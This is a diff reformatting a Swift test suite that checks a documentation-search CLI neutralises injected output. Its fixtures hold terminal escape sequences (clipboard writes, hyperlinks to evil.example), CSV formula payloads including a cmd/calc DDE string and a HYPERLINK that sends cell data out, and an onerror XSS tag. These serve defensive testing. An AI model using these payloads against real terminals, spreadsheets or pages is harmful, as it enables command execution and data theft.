@@ -37,7 +37,9 @@ final class OutputInjectionTests: XCTestCase {
         folder = try TemporaryFolder()
         XCTAssertEqual(try Binary.run(["init"], in: folder.url).status, 0)
         let esc = Self.esc
-        try folder.write("docs/06-ris/resolutions/RIS-901-terminal.md", """
+        try folder.write(
+            "docs/06-ris/resolutions/RIS-901-terminal.md",
+            """
             ---
             id: \(yaml(Self.terminalID))
             title: \(yaml(Self.terminalTitle))
@@ -82,7 +84,9 @@ final class OutputInjectionTests: XCTestCase {
             **Last Used:** 2026-01-05
             ````
             """)
-        try folder.write("docs/06-ris/resolutions/RIS-902-csv.md", """
+        try folder.write(
+            "docs/06-ris/resolutions/RIS-902-csv.md",
+            """
             ---
             id: RIS-902
             title: \(yaml(Self.formulaTitle))
@@ -105,7 +109,9 @@ final class OutputInjectionTests: XCTestCase {
 
             **Sign-Off:** @SUM(1+1)*cmd|' /C calc'!A0
             """)
-        try folder.write("docs/06-ris/resolutions/RIS-903-markdown.md", """
+        try folder.write(
+            "docs/06-ris/resolutions/RIS-903-markdown.md",
+            """
             ---
             id: RIS-903
             title: \(yaml(Self.markdownTitle))
@@ -121,9 +127,14 @@ final class OutputInjectionTests: XCTestCase {
             **Severity:** LOW
             """)
         // File names are text from the repository too.
-        try folder.write("docs/06-ris/resolutions/RIS-904-\(esc)]0;owned\u{07}.md", "# RIS-904: Formula named by the file\n\n**Severity:** LOW\n")
-        try folder.write("docs/06-ris/resolutions/RIS-905-\r\n=3+3.md", "# RIS-905: Formula by file name\n\n**Severity:** LOW\n")
-        try folder.write(".claude/memory/hot-patterns.md", """
+        try folder.write(
+            "docs/06-ris/resolutions/RIS-904-\(esc)]0;owned\u{07}.md",
+            "# RIS-904: Formula named by the file\n\n**Severity:** LOW\n")
+        try folder.write(
+            "docs/06-ris/resolutions/RIS-905-\r\n=3+3.md", "# RIS-905: Formula by file name\n\n**Severity:** LOW\n")
+        try folder.write(
+            ".claude/memory/hot-patterns.md",
+            """
             # Hot Patterns
 
             ## Token expired \(Self.osc52)\(Self.rlo)
@@ -158,30 +169,48 @@ final class OutputInjectionTests: XCTestCase {
 
     func testHumanReadableOutputsShowEscapesInsteadOfSequences() throws {
         let commands: [[String]] = [
-            ["index"], ["search", "deploy"], ["search", "formula"], ["list"], ["show", "RIS-901"], ["show", "RIS-904"], ["similar", "RIS-902"],
-            ["parse", "docs"], ["check", "--as-of", "2026-03-31"], ["pattern", "list"], ["pattern", "show", "deploy loop"],
+            ["index"], ["search", "deploy"], ["search", "formula"], ["list"], ["show", "RIS-901"], ["show", "RIS-904"],
+            ["similar", "RIS-902"],
+            ["parse", "docs"], ["check", "--as-of", "2026-03-31"], ["pattern", "list"],
+            ["pattern", "show", "deploy loop"],
             ["pattern", "show", "token expired"], ["show", "RIS-90"],
             ["audit", "log"],  // the reads of RIS-901 above, with its ID and path
         ]
         for arguments in commands {
             let result = try run(arguments)
-            XCTAssertNil(rawControl(result.stdout), "ris \(arguments.joined(separator: " ")) printed a raw control on stdout: \(result.stdout.debugDescription)")
-            XCTAssertNil(rawControl(result.stderr), "ris \(arguments.joined(separator: " ")) printed a raw control on stderr: \(result.stderr.debugDescription)")
+            XCTAssertNil(
+                rawControl(result.stdout),
+                "ris \(arguments.joined(separator: " ")) printed a raw control on stdout: \(result.stdout.debugDescription)"
+            )
+            XCTAssertNil(
+                rawControl(result.stderr),
+                "ris \(arguments.joined(separator: " ")) printed a raw control on stderr: \(result.stderr.debugDescription)"
+            )
         }
         let page = try run(["show", "RIS-901"]).stdout
-        for escaped in [#"RIS-901\e[2J: Deploy \e]52;c;ZWNobyBwd25lZA==\a failed \e]8;;https://evil.example/\e\click\e]8;;\e\ \u{202E}txt.exe \e]0;owned\a\u{9B}2J"#,
-                        #"Severity: HIGH\e[1A\e[2K"#, #"Owner:    ops\e]0;owned\ateam"#, #"\e[31mred\e[0m"#, #"09:10\e[2J  Event \e]8;;"#,
-                        #"keywords:  deploy\e[1A\e[2K, loop\u{202E}"#, #"kubectl rollout undo \e[1A\e[2K"#, #"tags: tag\u{202E}gat"#,
-                        #"classification internal\e]8;;"#] {
+        for escaped in [
+            #"RIS-901\e[2J: Deploy \e]52;c;ZWNobyBwd25lZA==\a failed \e]8;;https://evil.example/\e\click\e]8;;\e\ \u{202E}txt.exe \e]0;owned\a\u{9B}2J"#,
+            #"Severity: HIGH\e[1A\e[2K"#, #"Owner:    ops\e]0;owned\ateam"#, #"\e[31mred\e[0m"#,
+            #"09:10\e[2J  Event \e]8;;"#,
+            #"keywords:  deploy\e[1A\e[2K, loop\u{202E}"#, #"kubectl rollout undo \e[1A\e[2K"#,
+            #"tags: tag\u{202E}gat"#,
+            #"classification internal\e]8;;"#,
+        ] {
             XCTAssertTrue(page.contains(escaped), "show lacks \(escaped): \(page)")
         }
         let check = try run(["check", "--as-of", "2026-03-31"]).stdout
         XCTAssertTrue(check.contains(#"[control-unknown] 164.312(b)\e[2J is not a hipaa control"#), check)
         XCTAssertTrue(check.contains(#"docs/06-ris/resolutions/RIS-904-\e]0;owned\a.md:1:1:"#), check)
-        XCTAssertTrue(check.contains(#"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md:1:1:"#), "a line break in a file name cannot start a line: \(check)")
-        XCTAssertTrue(try run(["audit", "log"]).stdout.contains(#"read:show  RIS-901\e[2J  docs/06-ris/resolutions/RIS-901-terminal.md"#))
+        XCTAssertTrue(
+            check.contains(#"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md:1:1:"#),
+            "a line break in a file name cannot start a line: \(check)")
+        XCTAssertTrue(
+            try run(["audit", "log"]).stdout.contains(
+                #"read:show  RIS-901\e[2J  docs/06-ris/resolutions/RIS-901-terminal.md"#))
         let patterns = try run(["pattern", "list"]).stdout
-        XCTAssertTrue(patterns.contains(#"Token expired \e]52;c;ZWNobyBwd25lZA==\a\u{202E}  (.claude/memory/hot-patterns.md:3)"#), patterns)
+        XCTAssertTrue(
+            patterns.contains(#"Token expired \e]52;c;ZWNobyBwd25lZA==\a\u{202E}  (.claude/memory/hot-patterns.md:3)"#),
+            patterns)
         let parsed = try run(["parse", "docs"]).stdout
         XCTAssertTrue(parsed.contains(#"  id:        RIS-901\e[2J"#), parsed)
         XCTAssertTrue(parsed.contains(#"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md"#), parsed)
@@ -193,10 +222,15 @@ final class OutputInjectionTests: XCTestCase {
             (String(repeating: "B", count: 66) + Self.rlo + "tail", String(repeating: "B", count: 66) + "…"),
             (String(repeating: "C", count: 68) + "🇫🇷🇫🇷 tail", String(repeating: "C", count: 68) + "🇫🇷…"),
             (String(repeating: "D", count: 67) + Self.clear + " tail", String(repeating: "D", count: 67) + #"\e…"#),
-            (String(repeating: "E", count: 67) + "e\u{301}\u{302}" + "x tail", String(repeating: "E", count: 67) + "e\u{301}\u{302}x…"),
+            (
+                String(repeating: "E", count: 67) + "e\u{301}\u{302}" + "x tail",
+                String(repeating: "E", count: 67) + "e\u{301}\u{302}x…"
+            ),
         ]
         for (index, item) in cases.enumerated() {
-            try folder.write("docs/06-ris/resolutions/RIS-95\(index).md", "---\nid: RIS-95\(index)\ntitle: \(yaml(item.title))\n---\n# t\n")
+            try folder.write(
+                "docs/06-ris/resolutions/RIS-95\(index).md",
+                "---\nid: RIS-95\(index)\ntitle: \(yaml(item.title))\n---\n# t\n")
         }
         let listed = try run(["list", "--sort", "id"]).stdout
         XCTAssertNil(rawControl(listed))
@@ -207,36 +241,54 @@ final class OutputInjectionTests: XCTestCase {
         // The other columns line up on the escaped IDs.
         let header = try XCTUnwrap(listed.split(separator: "\n").first)
         let row = try XCTUnwrap(listed.split(separator: "\n").first { $0.hasPrefix(#"RIS-901\e[2J"#) })
-        XCTAssertEqual(header.firstRange(of: "DATE")?.lowerBound.utf16Offset(in: header), row.firstRange(of: "2026-01-05")?.lowerBound.utf16Offset(in: row))
+        XCTAssertEqual(
+            header.firstRange(of: "DATE")?.lowerBound.utf16Offset(in: header),
+            row.firstRange(of: "2026-01-05")?.lowerBound.utf16Offset(in: row))
     }
 
     func testColoursAddedByRisStayIntact() throws {
         // `script` gives ris a terminal, where it colours its own output.
         guard FileManager.default.isExecutableFile(atPath: "/usr/bin/script") else { throw XCTSkip("no script(1)") }
         _ = try run(["index"])
-        for arguments in [["search", "deploy", "--no-refresh"], ["show", "RIS-901", "--no-refresh"], ["check", "--as-of", "2026-03-31"]] {
+        for arguments in [
+            ["search", "deploy", "--no-refresh"], ["show", "RIS-901", "--no-refresh"],
+            ["check", "--as-of", "2026-03-31"],
+        ] {
             let command = ([Binary.risURL.path] + arguments).map { "'\($0)'" }.joined(separator: " ")
-            let result = try Binary.runProgram("/usr/bin/script", ["-qec", command, "/dev/null"], in: folder.url, environment: ["NO_COLOR": "", "TERM": "xterm"])
+            let result = try Binary.runProgram(
+                "/usr/bin/script", ["-qec", command, "/dev/null"], in: folder.url,
+                environment: ["NO_COLOR": "", "TERM": "xterm"])
             let colours = try Regex(#"\u{1B}\[[0-9;]*m"#)
             XCTAssertTrue(result.stdout.contains(colours), "no colour on a terminal: \(result.stdout.debugDescription)")
-            XCTAssertNil(rawControl(result.stdout.replacing(colours, with: "").replacingOccurrences(of: "\r\n", with: "\n")),
-                         "only ris's own colours may reach the terminal: \(result.stdout.debugDescription)")
+            XCTAssertNil(
+                rawControl(result.stdout.replacing(colours, with: "").replacingOccurrences(of: "\r\n", with: "\n")),
+                "only ris's own colours may reach the terminal: \(result.stdout.debugDescription)")
         }
     }
 
     func testJSONKeepsTheExactText() throws {
-        let listed = try XCTUnwrap(try JSONSerialization.jsonObject(with: try run(["list", "--format", "json"]).stdoutData) as? [[String: Any]])
-        let titles = Dictionary(listed.map { ($0["id"] as? String ?? "", $0["title"] as? String ?? "") }, uniquingKeysWith: { a, _ in a })
+        let listed = try XCTUnwrap(
+            try JSONSerialization.jsonObject(with: try run(["list", "--format", "json"]).stdoutData) as? [[String: Any]]
+        )
+        let titles = Dictionary(
+            listed.map { ($0["id"] as? String ?? "", $0["title"] as? String ?? "") }, uniquingKeysWith: { a, _ in a })
         XCTAssertEqual(titles[Self.terminalID], Self.terminalTitle)
         XCTAssertEqual(titles["RIS-902"], Self.formulaTitle)
         XCTAssertEqual(titles["RIS-903"], Self.markdownTitle)
-        let shown = try XCTUnwrap(try JSONSerialization.jsonObject(with: try run(["show", "RIS-901", "--format", "json"]).stdoutData) as? [String: Any])
+        let shown = try XCTUnwrap(
+            try JSONSerialization.jsonObject(with: try run(["show", "RIS-901", "--format", "json"]).stdoutData)
+                as? [String: Any])
         XCTAssertEqual(shown["title"] as? String, Self.terminalTitle)
         XCTAssertEqual(shown["id"] as? String, Self.terminalID)
         let lines = try run(["search", "formula", "--format", "jsonl"]).stdout.split(separator: "\n")
-        let titlesFound = try lines.map { try XCTUnwrap(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])["title"] as? String }
+        let titlesFound = try lines.map {
+            try XCTUnwrap(try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any])["title"] as? String
+        }
         XCTAssertTrue(titlesFound.contains(Self.formulaTitle), "\(titlesFound)")
-        let export = try XCTUnwrap(try JSONSerialization.jsonObject(with: try run(["review", "export", "--quarter", "2026-Q1", "--format", "json"]).stdoutData) as? [String: Any])
+        let export = try XCTUnwrap(
+            try JSONSerialization.jsonObject(
+                with: try run(["review", "export", "--quarter", "2026-Q1", "--format", "json"]).stdoutData)
+                as? [String: Any])
         let records = try XCTUnwrap(export["records"] as? [[String: Any]])
         XCTAssertEqual(records.first { $0["id"] as? String == "RIS-902" }?["reviewedBy"] as? String, "Dana\r\n=1+1")
     }
@@ -246,7 +298,8 @@ final class OutputInjectionTests: XCTestCase {
     /// The rows of a CSV file as Python's csv module reads them.
     func readCSV(_ text: String) throws -> [[String]] {
         let file = try folder.write("out.csv", text)
-        let script = "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))))"
+        let script =
+            "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))))"
         let result = try Binary.runProgram("/usr/bin/env", ["python3", "-c", script, file.path], in: folder.url)
         XCTAssertEqual(result.status, 0, result.stderr)
         return try XCTUnwrap(try JSONSerialization.jsonObject(with: result.stdoutData) as? [[String]])
@@ -258,39 +311,63 @@ final class OutputInjectionTests: XCTestCase {
         var pieces = String.UnicodeScalarView()
         var afterSeparator = false
         for scalar in value.unicodeScalars {
-            if afterSeparator, "=+-@\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars.contains(scalar) { pieces.append("'") }
-            if scalar == ";" || scalar == "\t" { afterSeparator = true } else if scalar != " " && scalar != "\"" { afterSeparator = false }
+            if afterSeparator, "=+-@\r\n\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars.contains(scalar) {
+                pieces.append("'")
+            }
+            if scalar == ";" || scalar == "\t" {
+                afterSeparator = true
+            } else if scalar != " " && scalar != "\"" {
+                afterSeparator = false
+            }
             pieces.append(scalar)
         }
         let neutral = String(pieces)
-        guard let first = neutral.unicodeScalars.first(where: { $0 != " " }), "=+-@\t\r\n".unicodeScalars.contains(first) else { return neutral }
+        guard let first = neutral.unicodeScalars.first(where: { $0 != " " }),
+            "=+-@\t\r\n".unicodeScalars.contains(first)
+        else { return neutral }
         return neutral.wholeMatch(of: /[+-]?[0-9]+(\.[0-9]+)?/) != nil ? neutral : "'" + neutral
     }
 
     func testSearchCSVCellsAreNeutralisedAndQuoted() throws {
         for query in ["formula", "deploy"] {
-            let hits = try XCTUnwrap(try JSONSerialization.jsonObject(with: try run(["search", query, "--format", "json"]).stdoutData) as? [[String: Any]])
+            let hits = try XCTUnwrap(
+                try JSONSerialization.jsonObject(with: try run(["search", query, "--format", "json"]).stdoutData)
+                    as? [[String: Any]])
             let csv = try run(["search", query, "--format", "csv"]).stdout
             let rows = try readCSV(csv)
             XCTAssertEqual(rows.count, hits.count + 1, "one row per hit, and the header: \(csv.debugDescription)")
             for (row, hit) in zip(rows.dropFirst(), hits) {
-                guard row.count == 9 else { XCTFail("9 cells: \(row)"); continue }
-                let values = ["id", "title", "path", "kind", "date", "severity", "status"].map { hit[$0] as? String ?? "" }
+                guard row.count == 9 else {
+                    XCTFail("9 cells: \(row)")
+                    continue
+                }
+                let values = ["id", "title", "path", "kind", "date", "severity", "status"].map {
+                    hit[$0] as? String ?? ""
+                }
                 XCTAssertEqual(Array(row.prefix(7)), values.map(expectedCell))
                 XCTAssertEqual(row[8], expectedCell(hit["snippet"] as? String ?? ""))
             }
         }
         let csv = try run(["search", "formula", "--format", "csv"]).stdout
         XCTAssertTrue(csv.contains(#"'=HYPERLINK(""https://evil.example/?q=""&A1,""Details"")""#), csv)
-        XCTAssertTrue(csv.contains("\"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md\""), "a CR LF in a path is quoted: \(csv.debugDescription)")
+        XCTAssertTrue(
+            csv.contains("\"docs/06-ris/resolutions/RIS-905-\r\n=3+3.md\""),
+            "a CR LF in a path is quoted: \(csv.debugDescription)")
     }
 
     func testReviewExportCSVCellsAreNeutralisedAndQuoted() throws {
-        let export = try XCTUnwrap(try JSONSerialization.jsonObject(with: try run(["review", "export", "--quarter", "2026-Q1", "--format", "json"]).stdoutData) as? [String: Any])
+        let export = try XCTUnwrap(
+            try JSONSerialization.jsonObject(
+                with: try run(["review", "export", "--quarter", "2026-Q1", "--format", "json"]).stdoutData)
+                as? [String: Any])
         let records = try XCTUnwrap(export["records"] as? [[String: Any]])
-        let keys = ["id", "title", "path", "frameworks", "controls", "classification", "phiClass", "encryptionRequired", "accessAuditRequired",
-                    "evidenceType", "retentionPeriod", "retentionUntil", "retentionState", "reviewFrequency", "lastReviewed", "reviewedBy",
-                    "nextDue", "reviewState", "signOff", "findings"]
+        let keys = [
+            "id", "title", "path", "frameworks", "controls", "classification", "phiClass", "encryptionRequired",
+            "accessAuditRequired",
+            "evidenceType", "retentionPeriod", "retentionUntil", "retentionState", "reviewFrequency", "lastReviewed",
+            "reviewedBy",
+            "nextDue", "reviewState", "signOff", "findings",
+        ]
         let rows = try readCSV(try run(["review", "export", "--quarter", "2026-Q1", "--format", "csv"]).stdout)
         XCTAssertEqual(rows.count, records.count + 1, "a CR LF cannot forge a row")
         for (row, record) in zip(rows.dropFirst(), records) {
@@ -329,7 +406,9 @@ final class OutputInjectionTests: XCTestCase {
         XCTAssertEqual(CSV.cell("2026-03-31"), "2026-03-31")
         XCTAssertEqual(CSV.cell("a\r\nb"), "\"a\r\nb\"", "CR LF is one Character but two scalars")
         XCTAssertEqual(CSV.cell("a\rb"), "\"a\rb\"")
-        XCTAssertEqual(CSV.cell("say \"\u{301}hi\""), "\"say \"\"\u{301}hi\"\"\"", "a quote with a combining mark is still a quote")
+        XCTAssertEqual(
+            CSV.cell("say \"\u{301}hi\""), "\"say \"\"\u{301}hi\"\"\"", "a quote with a combining mark is still a quote"
+        )
         XCTAssertEqual(CSV.cell("@x,y"), "\"'@x,y\"")
         XCTAssertEqual(CSV.row(["a", "=b", "c,d"]), "a,'=b,\"c,d\"")
         // A spreadsheet splitting on `;` or tab ignores the comma quoting mid-line: each piece is neutral.
@@ -344,9 +423,12 @@ final class OutputInjectionTests: XCTestCase {
     func testMarkdownAndHTMLExportsKeepTheirRowsAndShowNoMarkup() throws {
         let markdown = try run(["review", "export", "--quarter", "2026-Q1", "--format", "md"]).stdout
         XCTAssertNil(rawControl(markdown))
-        let section = try XCTUnwrap(markdown.components(separatedBy: "## Records").last?.components(separatedBy: "## Control coverage").first)
+        let section = try XCTUnwrap(
+            markdown.components(separatedBy: "## Records").last?.components(separatedBy: "## Control coverage").first)
         // Every line end a markdown parser sees (CR, LF, CR LF) counts.
-        let lines = section.split(whereSeparator: { $0 == "\n" || $0 == "\r" || $0 == "\r\n" }).filter { !$0.trimmingCharacters(in: .whitespaces).isEmpty }
+        let lines = section.split(whereSeparator: { $0 == "\n" || $0 == "\r" || $0 == "\r\n" }).filter {
+            !$0.trimmingCharacters(in: .whitespaces).isEmpty
+        }
         XCTAssertEqual(lines.count, 2 + 3, "header, delimiter and three records: \(section.debugDescription)")
         func separators(_ line: Substring) -> Int {
             var count = 0
@@ -359,13 +441,19 @@ final class OutputInjectionTests: XCTestCase {
         }
         XCTAssertEqual(Set(lines.map(separators)), [21], "twenty cells in every row")
         XCTAssertFalse(markdown.contains("<img"), markdown)
-        XCTAssertTrue(markdown.contains(#"Row split \| pipe &lt;img src=x onerror=alert(1)&gt; &amp; \[link\](https://evil.example) \|"# + "\u{301} |"), markdown)
+        XCTAssertTrue(
+            markdown.contains(
+                #"Row split \| pipe &lt;img src=x onerror=alert(1)&gt; &amp; \[link\](https://evil.example) \|"#
+                    + "\u{301} |"), markdown)
         XCTAssertTrue(markdown.contains(#"RIS-901\e\[2J"#), markdown)
 
         let html = try run(["review", "export", "--quarter", "2026-Q1", "--format", "html"]).stdout
         XCTAssertNil(rawControl(html))
         XCTAssertFalse(html.contains("<img"), html)
-        XCTAssertTrue(html.contains(#"<td>Row\rsplit | pipe &lt;img src=x onerror=alert(1)&gt; &amp; [link](https://evil.example) |"# + "\u{301}</td>"), html)
+        XCTAssertTrue(
+            html.contains(
+                #"<td>Row\rsplit | pipe &lt;img src=x onerror=alert(1)&gt; &amp; [link](https://evil.example) |"#
+                    + "\u{301}</td>"), html)
         XCTAssertTrue(html.contains(#"<td>Deploy \e]52;c;ZWNobyBwd25lZA==\a failed"#), html)
         XCTAssertEqual(html.components(separatedBy: "<tr><td>RIS-90").count - 1, 3)
     }
